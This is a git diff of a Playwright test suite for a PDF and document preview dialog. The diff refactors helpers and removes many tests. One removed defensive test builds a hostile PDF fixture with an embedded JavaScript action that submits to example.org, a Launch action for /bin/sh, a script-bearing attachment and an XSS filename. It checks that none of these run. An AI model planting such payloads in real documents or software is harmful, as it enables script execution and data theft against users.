@@ -1,22 +1,6 @@
-import type { Page } from '@playwright/test'
-import { expectAccessibleAt } from './axe.ts'
 import { attach, buildDocument, buildPdf, prose, serveDocuments } from './documents.ts'
-import { expect, failedWith, test } from './test.ts'
-import { walk } from './walk.ts'
-
-const dialog = (page: Page) => page.getByRole('dialog')
-const pages = (page: Page) => dialog(page).locator('[data-page]')
-const drawn = (page: Page) => dialog(page).locator('[data-page] canvas')
-const pane = (page: Page) => dialog(page).getByRole('group', { name: /^(Pages|Text) of/ })
-const number = (page: Page) => dialog(page).getByLabel(/^Page of/)
-
-/** The texts that carry a mark, in their order. */
-function marked(page: Page, mark: string): Promise<string[]> {
-  return page.evaluate((name) => {
-    const ranges = [...(CSS.highlights.get(name) ?? [])] as Range[]
-    return ranges.map((range) => String(range))
-  }, mark)
-}
+import { dialog, drawn, marked, number, pages, pane } from './preview.ts'
+import { expect, test } from './test.ts'
 
 test('a stored PDF opens at the page of the address, is read page by page, and is there again after a reload', async ({
   asUser: page,
@@ -104,92 +88,6 @@ test('only the pages near the view are drawn, and what was drawn is given back',
   await expect(pages(page)).toHaveCount(120)
 })
 
-test('words are found in all pages, counted, and marked where they stand', async ({ asUser: page }) => {
-  const texts = ['Nothing here', 'Die Größe der Siegel', 'GROSSE Siegel, große\nSiegel', 'Ende']
-  await serveDocuments(page, [{ ...buildDocument(), content: await buildPdf(texts) }])
-  await page.goto('/requests?document=doc-1')
-  await expect(drawn(page).first()).toBeVisible()
-  await page.keyboard.press('Control+f')
-  const field = dialog(page).getByRole('searchbox', { name: 'Search in document' })
-  await expect(field).toBeFocused()
-  await field.fill('grosse')
-  await expect(dialog(page).getByRole('search')).toContainText('1 of 3')
-  await expect(number(page)).toHaveValue('2')
-  await expect.poll(() => marked(page, 'document-hit-current')).toEqual(['Größe'])
-  await field.press('Enter')
-  await expect(dialog(page).getByRole('search')).toContainText('2 of 3')
-  await expect.poll(() => marked(page, 'document-hit-current')).toEqual(['GROSSE'])
-  await field.press('Shift+Enter')
-  await field.press('Shift+Enter')
-  await expect(dialog(page).getByRole('search')).toContainText('3 of 3')
-  await field.fill('nowhere at all')
-  await expect(dialog(page).getByRole('search')).toContainText('Not found')
-  await expect.poll(() => marked(page, 'document-hit')).toEqual([])
-  // Escape empties the field before it closes anything.
-  await field.press('Escape')
-  await expect(field).toHaveValue('')
-  await expect(dialog(page)).toBeVisible()
-})
-
-test('a hit of the search opens the document at its page with the words marked', async ({ asUser: page }) => {
-  const content = await buildPdf([prose(1), 'The seal is scanned', prose(3)])
-  await serveDocuments(page, [{ ...buildDocument(), content }])
-  await page.goto('/requests?document=doc-1&documentPage=2&find=seal')
-  await expect(dialog(page).getByRole('region', { name: 'Page 2 of 3' })).toBeInViewport()
-  await expect.poll(() => marked(page, 'document-hit-current')).toEqual(['seal'])
-  await expect(number(page)).toHaveValue('2')
-})
-
-test('the text of a page can be selected and copied, on a turned page, too', async ({ asUser: page }) => {
-  const plain = await buildPdf(['The portal should show the remaining quantity'])
-  const turned = Buffer.from(plain.toString('latin1').replace('/Type /Page\n', '/Type /Page\n/Rotate 90\n'), 'latin1')
-  await serveDocuments(page, [
-    { ...buildDocument(), content: plain },
-    { ...buildDocument({ id: 'doc-2', name: 'Turned.pdf' }), content: turned },
-  ])
-  for (const id of ['doc-1', 'doc-2']) {
-    await page.goto(`/requests?document=${id}`)
-    const line = dialog(page).getByText('The portal should show')
-    await line.dblclick({ position: id === 'doc-1' ? { x: 60, y: 8 } : { x: 8, y: 60 } })
-    const selected = await page.evaluate(() => String(getSelection()))
-    expect(selected.trim().length).toBeGreaterThan(2)
-    expect('The portal should show the remaining quantity').toContain(selected.trim())
-    const { width, height } = (await line.boundingBox())!
-    expect(width > height, id).toBe(id === 'doc-1')
-  }
-})
-
-test('what a PDF carries beside its pages never runs, and nothing outside is asked for', async ({ asUser: page }) => {
-  const content = await buildPdf(['Harmless words'], {
-    add: (pdf) => {
-      const attack = "app.alert('ran'); window.ran = true; this.submitForm('https://example.org/x')"
-      const root = (pdf as unknown as { _root: { data: Record<string, unknown> } })._root.data
-      const action = pdf.ref({ S: 'JavaScript', JS: new String(attack) })
-      action.end('')
-      root['OpenAction'] = action
-      root['AA'] = { WC: { S: 'Launch', F: new String('/bin/sh') } }
-      pdf.link(60, 60, 300, 40, 'https://example.org/clicked')
-      pdf.file(Buffer.from('<script>window.ran = true</script>'), { name: 'run.html' })
-    },
-  })
-  expect(content.toString('latin1')).toMatch(/JavaScript[^]*Launch|Launch[^]*JavaScript/)
-  await serveDocuments(page, [{ ...buildDocument({ name: '<img src=x onerror="window.ran=true">.pdf' }), content }])
-  const outside: string[] = []
-  page.on('request', (asked) => {
-    if (!asked.url().startsWith('blob:') && new URL(asked.url()).hostname !== '127.0.0.1') outside.push(asked.url())
-  })
-  page.on('dialog', (shown) => outside.push(`dialog ${shown.message()}`))
-  page.on('popup', (opened) => outside.push(`popup ${opened.url()}`))
-  await page.goto('/requests?document=doc-1')
-  await expect(dialog(page).getByRole('region', { name: 'Page 1' })).toContainText('Harmless words')
-  await pages(page)
-    .first()
-    .click({ position: { x: 150, y: 100 } })
-  await expect(dialog(page).getByRole('heading', { name: '<img src=x' })).toBeVisible()
-  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
-  expect(outside).toEqual([])
-})
-
 test('a document of text is paragraphs, headings and their direction, and its words are never markup', async ({
   asUser: page,
 }) => {
@@ -226,61 +124,6 @@ test('a PDF is shown as text for those who read by ear, and as pages again', asy
   await expect(dialog(page).getByRole('region', { name: 'Page 2 of 2' })).toContainText('Second, as text.')
   await dialog(page).getByRole('button', { name: 'Show as pages' }).click()
   await expect(drawn(page).first()).toBeVisible()
-})
-
-test('a protected PDF asks for its password, which is stored nowhere', async ({ asUser: page }) => {
-  const content = await buildPdf(['A page behind a password'], { userPassword: 'sesame', pdfVersion: '1.7' })
-  await serveDocuments(page, [{ ...buildDocument(), content }])
-  await page.goto('/requests?document=doc-1')
-  const field = dialog(page).getByLabel('Password of the document')
-  await expect(field).toBeFocused()
-  await field.fill('wrong')
-  await field.press('Enter')
-  await expect(dialog(page).getByText('This password does not open the document')).toBeVisible()
-  await expect(field).toBeFocused()
-  await dialog(page).getByRole('button', { name: 'Cancel' }).click()
-  await dialog(page).getByRole('button', { name: 'Enter the password' }).click()
-  await field.fill('sesame')
-  await dialog(page).getByRole('button', { name: 'Open' }).click()
-  await expect(dialog(page).getByRole('region', { name: 'Page 1' })).toContainText('A page behind a password')
-  const kept = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, location.href]))
-  expect(kept).not.toContain('sesame')
-})
-
-test('what cannot be shown says why and what to do', async ({ asUser: page, expected }) => {
-  expected.push(failedWith(404), /ERR_FAILED/)
-  await serveDocuments(page, [
-    {
-      ...buildDocument({ id: 'damaged' }),
-      content: Buffer.from('%PDF-1.7\nnothing of it'),
-      pages: [{ number: 1, text: 'Its words' }],
-    },
-    buildDocument({ id: 'gone' }),
-    buildDocument({ id: 'scan', type: 'docx', text: { state: 'none', pages: null, note: null } }),
-    { ...buildDocument({ id: 'lost' }), content: await buildPdf(['Here again']) },
-  ])
-  await page.goto('/requests?document=damaged')
-  await expect(dialog(page).getByText('This PDF cannot be shown here')).toBeVisible()
-  const [file] = await Promise.all([
-    page.waitForEvent('download'),
-    dialog(page).getByRole('button', { name: 'Download' }).last().click(),
-  ])
-  expect(file.suggestedFilename()).toBe('Minutes of the transit working group.pdf')
-  await dialog(page).getByRole('button', { name: 'Show as text' }).first().click()
-  await expect(dialog(page).getByText('Its words')).toBeVisible()
-
-  await page.goto('/requests?document=gone')
-  await expect(dialog(page).getByText('This document is no longer there')).toBeVisible()
-  await page.goto('/requests?document=scan')
-  await expect(dialog(page).getByText('This DOCX has no text')).toBeVisible()
-
-  let isLost = true
-  await page.route('**/api/documents/lost/content', (route) => (isLost ? route.abort() : route.fallback()))
-  await page.goto('/requests?document=lost')
-  await expect(dialog(page).getByText('The document could not be loaded')).toBeVisible()
-  isLost = false
-  await dialog(page).getByRole('button', { name: 'Try again' }).click()
-  await expect(dialog(page).getByRole('region', { name: 'Page 1' })).toContainText('Here again')
 })
 
 test('the documents of a request are gone through one after the other, and the focus stays', async ({
@@ -353,59 +196,4 @@ test('a PDF prints each of its pages in its own size, and a text prints as text'
   await page.emulateMedia({ media: 'print' })
   await expect(sheet.getByText('Words on paper.')).toBeVisible()
   await expect(dialog(page)).toBeHidden()
-})
-
-test('Tab goes through the preview and comes round', async ({ asUser: page }) => {
-  await serveDocuments(page, [
-    { ...buildDocument(), content: await buildPdf([prose(1), prose(2)]) },
-    buildDocument({ id: 'doc-2' }),
-  ])
-  await page.goto('/requests?document=doc-1')
-  await expect(pane(page)).toBeFocused()
-  const stops = [
-    'button Next document',
-    'button Download',
-    'button Close',
-    'textbox Page of',
-    'button Previous page',
-    'button Next page',
-    'button Zoom out',
-    'button Zoom in',
-    'button Fit page',
-    'searchbox Search in document',
-    'button Previous hit',
-    'button Next hit',
-    'button Show as text',
-    'button Print',
-    'group Pages of Minutes of the transit working group.pdf',
-  ]
-  const there = await walk(page, 'Tab')
-  expect(there).toEqual(stops)
-  expect((await walk(page, 'Shift+Tab')).toReversed()).toEqual(there)
-})
-
-test('the preview is accessible in every width and both themes', async ({ asUser: page }) => {
-  test.slow()
-  await serveDocuments(page, [
-    { ...buildDocument(), content: await buildPdf([prose(1), prose(2)]) },
-    buildDocument({ id: 'doc-2' }),
-  ])
-  await page.goto('/requests?document=doc-1&find=seal')
-  await expect(drawn(page).first()).toBeVisible()
-  await expect(dialog(page).getByRole('search')).toContainText('1 of')
-  await expectAccessibleAt(page, 1440, 1366, 1024, 820, 390)
-})
-
-test('the text of a PDF and what is said of a damaged one are accessible', async ({ asUser: page }) => {
-  await serveDocuments(page, [
-    { ...buildDocument(), content: await buildPdf([prose(1)]), pages: [{ number: 1, text: prose(1) }] },
-    { ...buildDocument({ id: 'doc-2' }), content: Buffer.from('%PDF-1.7 damaged') },
-  ])
-  await page.goto('/requests?document=doc-1')
-  await dialog(page).getByRole('button', { name: 'Show as text' }).click()
-  await expect(dialog(page).getByRole('region', { name: 'Text' })).toBeVisible()
-  await expectAccessibleAt(page, 1440, 390)
-  await page.goto('/requests?document=doc-2')
-  await expect(dialog(page).getByText('This PDF cannot be shown here')).toBeVisible()
-  await expectAccessibleAt(page, 1440, 390)
 })
